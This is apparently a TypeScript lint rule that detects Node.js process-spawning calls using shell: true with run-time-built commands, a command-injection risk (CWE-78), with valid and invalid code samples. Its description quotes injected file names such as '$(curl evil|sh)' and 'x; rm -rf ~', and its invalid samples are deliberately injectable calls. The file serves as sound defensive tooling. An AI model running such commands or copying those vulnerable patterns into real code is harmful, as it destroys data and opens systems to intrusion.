import { objectProperty, referencesAnyModule, resolveCallee, unwrap } from '../ast.js';
import { constantNode, isConstant } from '../constant-values.js';
import type { JsRule, JsRuleContext, Node, Visitors } from '../types.js';

/**
 * spawn() and execFile() are the safe way to run a program: arguments go to it as a list,
 * untouched. `shell: true` throws that away: Node joins command and arguments with spaces
 * and hands the string to /bin/sh or cmd.exe, so `;`, `|`, `$()` in any dynamic part run
 * extra commands. When every part is written in the code there is nothing to inject.
 * (exec/execSync always use a shell: the child-process rule covers them.)
 */

/** Calls that take (file, args?, options?) or (command, options?), by module and export path. */
const SPAWNERS: readonly { readonly module: string; readonly names: readonly string[]; readonly argv: boolean }[] = [
  { module: 'child_process', names: ['spawn', 'spawnSync', 'execFile', 'execFileSync'], argv: true },
  { module: 'cross-spawn', names: ['', 'spawn', 'sync'], argv: true },
  { module: 'execa', names: ['', 'execa', 'execaSync', 'sync'], argv: true },
  { module: 'execa', names: ['command', 'commandSync', 'execaCommand', 'execaCommandSync'], argv: false },
];

/** Export names too generic to show without their module. */
const QUALIFIED = new Set(['spawn', 'sync', 'command', 'commandSync']);

function spawner(call: Node, context: JsRuleContext): { name: string; argv: boolean } | undefined {
  const target = resolveCallee(call.callee, context.sourceCode);
  if (!target) return undefined;
  const path = (target.path[0] === 'default' ? target.path.slice(1) : target.path).join('.');
  const entry = SPAWNERS.find((s) => s.module === target.module && s.names.includes(path));
  if (!entry) return undefined;
  // spawn(), execa(), execa.sync(), cross-spawn()
  const name = path === '' ? target.module : target.module !== 'child_process' && QUALIFIED.has(path) ? `${target.module}.${path}` : path;
  return { name, argv: entry.argv };
}

type ShellUse = 'static' | 'dynamic' | undefined;

/** `shell: true` or a shell path is a shell; false/null/undefined/'' is not; an expression may be. */
function shellUse(options: Node | undefined, context: JsRuleContext): ShellUse {
  const value = unwrap(objectProperty(options, 'shell'));
  if (!value || (value.type === 'Identifier' && value.name === 'undefined')) return undefined;
  const v = constantNode(value, context.sourceCode);
  if (v?.type === 'Literal') return v.value ? 'static' : undefined;
  if (v?.type === 'TemplateLiteral' && v.expressions.length === 0) return v.quasis[0]?.value.cooked ? 'static' : undefined;
  return 'dynamic';
}

/** The modules whose calls this rule reads. */
const SPAWNING_MODULES = SPAWNERS.map((s) => s.module);

const rule: JsRule = {
  kind: 'js',
  meta: {
    id: 'shell-true',
    title: 'Program started through a shell with a command built at run time',
    practice: 7,
    cwe: 'CWE-78',
    severity: 'high',
    confidence: 'high',
    description:
      'spawn(), spawnSync(), execFile(), execFileSync(), cross-spawn and execa normally pass arguments straight to the program, which is what makes them safe. With `shell: true` (or a shell path) Node joins the command and its arguments with spaces, unescaped, and runs the string with /bin/sh or cmd.exe; a file name such as `x; rm -rf ~` or `$(curl evil|sh)` then runs commands of its own. Calls whose command and arguments are all written in the code are not reported.',
    fix: 'Remove `shell: true` and pass the program and its arguments separately; if a shell feature is really needed (a pipe, a glob), do it in JavaScript, or pass the values as environment variables and quote them in a fixed script.',
  },
  samples: {
    valid: [
      'const { spawn } = require("child_process"); spawn("npm", ["run", "build"], { shell: true, stdio: "inherit" });',
      'import { spawn } from "node:child_process"; spawn(cmd, args, { stdio: "inherit" });',
      'import { execFile } from "child_process"; execFile(file, [input], { shell: false }, done);',
      'const cp = require("child_process"); cp.spawn(bin, args, spawnOptions);',
      'pool.spawn(task, { shell: true }); worker.execFile(script, [job.id], { shell: true });',
      'const { spawnSync } = require("child_process"); const ARGS = ["--version"]; spawnSync("node", ARGS, { shell: true });',
      'import { execa } from "execa"; await execa("git", ["status", "--short"], { shell: true });',
      'import { spawn } from "child_process"; spawn(tool, [file], { shell: undefined, cwd });',
    ],
    invalid: [
      'const { spawn } = require("child_process"); spawn("convert", [input, output], { shell: true });',
      'import { spawnSync } from "node:child_process"; spawnSync(`git log ${branch}`, { shell: true });',
      'const cp = require("child_process"); cp.execFile(tool, ["--json"], { shell: "/bin/bash" }, (err, out) => done(out));',
      'import * as cp from "child_process"; const out = cp.execFileSync("ls", ["-la", req.query.dir], { shell: true, encoding: "utf8" });',
      'require("child_process").spawn(cmd, { shell: true, stdio: "inherit" });',
      'import { execa } from "execa"; await execa("ffmpeg", ["-i", file, "out.mp4"], { shell: true });',
      'const execa = require("execa"); execa.sync(`tar xzf ${archive}`, { shell: true });',
      'import { execaCommand } from "execa"; await execaCommand(`convert ${name} out.png`, { shell: true });',
      'const spawn = require("cross-spawn"); spawn(pkgManager, ["install", name], { shell: true });',
      {
        code: 'import { spawn } from "child_process"; spawn(cmd as string, args, { shell: process.platform === "win32" });',
        filename: 'run.ts',
      },
      'const { spawn } = require("child_process"); const args = ["run"]; args.push(script); spawn("npm", args, { shell: true });',
    ],
  },
  create(context): Visitors {
    // Every report is a call into one of these modules: a file that loads none has nothing to check.
    if (!referencesAnyModule(context.sourceCode, SPAWNING_MODULES)) return {};
    return {
      CallExpression(node) {
        const target = spawner(node, context);
        if (!target) return;
        const args: Node[] = node.arguments;
        const second = unwrap(args[1]);
        const optionsAtOne = !target.argv || second?.type === 'ObjectExpression';
        const argv = optionsAtOne ? undefined : args[1];
        const options = optionsAtOne ? args[1] : args[2];
        const shell = shellUse(options, context);
        if (!shell) return;
        const dynamic: string[] = [];
        if (!isConstant(args[0], context.sourceCode)) dynamic.push('the command');
        if (argv && !isConstant(argv, context.sourceCode)) dynamic.push('the arguments');
        if (dynamic.length === 0) return;
        context.report({
          node,
          confidence: shell === 'static' ? 'high' : 'low',
          message: `${target.name}() runs through a shell${shell === 'dynamic' ? ' (on some platforms or settings)' : ''} and ${dynamic.join(' and ')} ${dynamic.length > 1 || dynamic[0] === 'the arguments' ? 'are' : 'is'} built at run time: shell characters such as ; | $() in them run extra commands.`,
        });
      },
    };
  },
};

export default rule;
